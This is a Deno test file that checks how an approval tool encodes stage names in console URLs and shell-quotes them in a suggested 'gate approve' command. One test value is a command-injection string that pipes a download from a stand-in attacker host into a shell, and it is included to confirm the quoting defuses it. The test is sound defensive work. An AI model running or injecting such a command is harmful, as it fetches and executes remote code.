import assert from "node:assert/strict";
import { runUrl, waitingSentence } from "./ask_person.ts";

/** A stage, its part of the address, and its operand in the command. */
const STAGES: readonly (readonly [stageId: string, part: string, operand: string])[] = [
  ["release", "release", "release"],
  ["go live", "go%20live", "'go live'"],
  ["a/../b", "a%2F..%2Fb", "a/../b"],
  ["a#b?c&d", "a%23b%3Fc%26d", "'a#b?c&d'"],
  ["50%", "50%25", "50%"],
  ["x; curl evil.example | sh", "x%3B%20curl%20evil.example%20%7C%20sh", "'x; curl evil.example | sh'"],
  ["--yes", "--yes", "-- --yes"],
  ["prüfung", "pr%C3%BCfung", "'prüfung'"],
];

const PUBLIC_URL = "https://gate.example.com";
const RUN_ID = "0123456789abcdef0123456789abcdef";

for (const [stage_id, part, operand] of STAGES) {
  Deno.test(`the address and the command of stage ${JSON.stringify(stage_id)} name it as one part`, () => {
    const url = runUrl(PUBLIC_URL, { namespace_id: 2, scenario_id: stage_id, run_id: RUN_ID, stage_id });
    assert.equal(url, `${PUBLIC_URL}/console#/run/2/${part}/${RUN_ID}/${part}`);
    const route = new URL(url).hash.slice(2).split("/").map(decodeURIComponent);
    assert.deepEqual(route, ["run", "2", stage_id, RUN_ID, stage_id], "the page reads the same");
    const sentence = waitingSentence([{ stage_id, condition_id: "approved", have: 0, needed: 1 }], RUN_ID);
    assert.ok(sentence.endsWith(` with: gate approve ${RUN_ID} ${operand}`), sentence);
  });
}
